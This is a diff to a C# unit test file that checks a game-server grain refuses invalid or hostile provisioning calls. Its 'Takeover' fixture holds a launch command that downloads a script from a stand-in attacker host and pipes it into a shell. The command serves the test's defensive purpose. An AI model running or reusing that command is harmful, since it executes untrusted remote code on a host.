@@ -15,7 +15,7 @@ namespace ZlhGrind.Silo.Tests.Grains;
 /// </summary>
 public sealed class RefusedCallsTests(FakeClockClusterFixture fixture) : IClassFixture<FakeClockClusterFixture>
 {
-    private static readonly GameServerSpec Takeover = new("minecraft", "curl -s attacker.invalid/x | sh", "stop", 1024);
+    private static readonly GameServerSpec Takeover = new("generic", "curl -s attacker.invalid/x | sh", "stop", 1024);
 
     private IClusterClient Client => fixture.Client;
 
@@ -31,7 +31,7 @@ public sealed class RefusedCallsTests(FakeClockClusterFixture fixture) : IClassF
         await RefusedAsync<InvalidRequestException>(grain, credential, () => grain.ProvisionAsync(new Actor(" ", false), Takeover), "A container needs an owner.");
 
         CallAs.Agent(id, credential);
-        Assert.Equal(Minecraft, (await grain.GetDesiredSpecAsync()).Game!.Spec);
+        Assert.Equal(Minecraft, (await grain.GetDesiredSpecAsync()).Game!.Spec with { Variables = null, Launch = null });
     }
 
     [Fact]
